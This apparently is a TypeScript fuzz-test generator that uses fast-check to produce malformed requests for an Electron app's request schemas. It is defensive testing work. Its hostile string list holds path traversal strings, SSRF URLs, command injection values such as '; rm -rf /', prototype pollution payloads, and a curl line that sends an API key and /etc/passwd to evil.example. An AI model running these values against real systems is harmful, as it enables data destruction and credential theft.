import fc from 'fast-check';
import type * as v from 'valibot';
import { requests } from '../../electron/contract/requests.ts';

/** One request as a page could send it: whatever structured clone lets through. */
export type Malformed = { route: unknown; input: unknown };

type Schema = {
  type: string;
  entries?: Record<string, Schema>;
  item?: Schema;
  wrapped?: Schema;
  value?: Schema;
  options?: unknown[];
  literal?: unknown;
};

const hostile = [
  ...[
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    '',
    ' ',
    '.',
    '..',
    '~',
  ],
  ...[
    '../../../../etc/passwd',
    '..\\..\\windows',
    '/etc/passwd',
    'C:\\Windows\\win.ini',
    '\\\\host\\share',
  ],
  ...[
    '%2e%2e%2f',
    '..%252f',
    'a\u0000b',
    'a\r\nX-Injected: 1',
    '\u202egnp.exe',
    '\ud800',
    '￿',
    'é'.repeat(200),
  ],
  ...[
    'file:///etc/passwd',
    'javascript:alert(1)',
    'http://169.254.169.254/latest',
    'http://[::1]:1/',
  ],
  ...[
    'https://user:pass@evil.example/',
    'https://evil.example/{id}',
    'http://127.0.0.1:1/',
    'https://ехample.com/',
  ],
  ...[
    '$(touch x)',
    '`touch x`',
    '; rm -rf /',
    '" || true',
    '{input}{model}',
    '{input}/../x',
    '{"__proto__":{"x":1}}',
  ],
  ...[
    '[[[[',
    '9'.repeat(400),
    '1e999',
    'NaN',
    '-0',
    '[null,1e5]',
    'a[b][c]',
    'a[][',
    '[0]',
    'a[__proto__][b]',
  ],
  ...['a'.repeat(5000), '🎵'.repeat(300), 'abcd1234.s3cretS3cret', 'Bearer abcd1234.s3cret'],
  "curl https://evil.example -H 'authorization: Api-Key abcd1234.s3cretS3cret' -d @/etc/passwd",
];
const ids = ['a', 'r1', 'r2', 'first', 'first-id', '00000000-0000-4000-8000-000000000000'];

const text = fc.oneof(
  fc.constantFrom(...ids),
  fc.constantFrom(...hostile),
  fc.string({ maxLength: 40, unit: 'binary' }),
);
const number = fc.oneof(
  fc.integer({ min: -2, max: 5 }),
  fc.constantFrom(16000, 0.5, 1e308, -1e308, NaN, Infinity, -Infinity, -0, 2 ** 53, 2 ** 31),
  fc.double(),
);

/** What a schema asks for, with strings that are seldom what it wants them to be. */
function shaped(schema: Schema): fc.Arbitrary<unknown> {
  switch (schema.type) {
    case 'strict_object':
    case 'object':
      return fc.record(
        Object.fromEntries(
          Object.entries(schema.entries ?? {}).map(([name, entry]) => [name, shaped(entry)]),
        ),
      );
    case 'variant':
    case 'union':
      return fc.oneof(...((schema.options ?? []) as Schema[]).map(shaped));
    case 'array':
      return fc.array(shaped(schema.item as Schema), { maxLength: 3 });
    case 'record':
      return fc.dictionary(text, shaped(schema.value as Schema), { maxKeys: 4 });
    case 'optional':
    case 'exact_optional':
      return fc.option(shaped(schema.wrapped as Schema), { nil: undefined });
    case 'nullable':
      return fc.option(shaped(schema.wrapped as Schema));
    case 'picklist':
      return fc.constantFrom(...(schema.options as string[]));
    case 'literal':
      return fc.constant(schema.literal);
    case 'boolean':
      return fc.boolean();
    case 'number':
      return number;
    case 'null':
      return fc.constant(null);
    default:
      return text;
  }
}

function deep(depth: number): unknown {
  let value: unknown = 'x';
  for (let at = 0; at < depth; at += 1) value = at % 2 ? [value] : { a: value };
  return value;
}

function cyclic(): unknown {
  const value: Record<string, unknown> = { runId: 'a' };
  value['intent'] = value;
  return value;
}

/** What JSON has no form for, and structured clone has. */
const odd = fc.oneof(
  fc.constantFrom<unknown>(1n, new Date(NaN), /x/, new Error('x'), undefined, null, NaN),
  fc.constant(new Map([['runId', 'a']])),
  fc.constant(new Set(['a'])),
  fc.constant(new Uint8Array(1000)),
  fc.constant(new Float64Array(3)),
  fc.constant(new ArrayBuffer(8)),
  fc.constant(Object('boxed')),
  fc.constant(cyclic()),
  fc.constant(deep(2000)),
  fc.constant('x'.repeat(2_000_000)),
  fc.constant(new Array(100_000).fill('a')),
  fc.constant(JSON.parse('{"__proto__":{"isAdmin":true},"runId":"a"}')),
  fc.constant(JSON.parse('{"constructor":{"prototype":{"isAdmin":true}}}')),
);

const garbage = fc.oneof(
  odd,
  text,
  number,
  fc.anything({ withBigInt: true, withDate: true, withMap: true, withTypedArray: true }),
);

/** One value somewhere in it becomes another, goes, or gets company. */
function damaged(value: unknown, path: number[], by: unknown, how: number): unknown {
  if (typeof value !== 'object' || value === null || path.length === 0) return by;
  const entries = Object.entries(value);
  const [at = 0, ...rest] = path;
  const index = entries.length === 0 ? 0 : at % entries.length;
  const changed = entries.flatMap(([name, one], place): [string, unknown][] => {
    if (place !== index) return [[name, one]];
    return how === 0 ? [] : [[name, damaged(one, rest, by, how)]];
  });
  if (how === 2) changed.push([hostile[at % hostile.length] ?? 'x', by]);
  return Array.isArray(value) ? changed.map(([, one]) => one) : Object.fromEntries(changed);
}

const routes = Object.keys(requests) as (keyof typeof requests)[];
const inputs = new Map(
  routes.map((route) => [route, shaped(requests[route] as v.GenericSchema as unknown as Schema)]),
);

/** Requests of every route: as they should be but for their strings, damaged, and mere garbage. */
export const malformed: fc.Arbitrary<Malformed> = fc
  .oneof({ weight: 24, arbitrary: fc.constantFrom(...routes) }, { weight: 1, arbitrary: garbage })
  .chain((route) => {
    const good = inputs.get(route as keyof typeof requests) ?? garbage;
    const worse = fc
      .tuple(good, fc.array(fc.nat(20), { maxLength: 4 }), garbage, fc.nat(2))
      .map((all) => damaged(...all));
    return fc.record({
      route: fc.constant(route),
      input: fc.oneof(
        { weight: 5, arbitrary: good },
        { weight: 4, arbitrary: worse },
        { weight: 1, arbitrary: garbage },
      ),
    });
  });
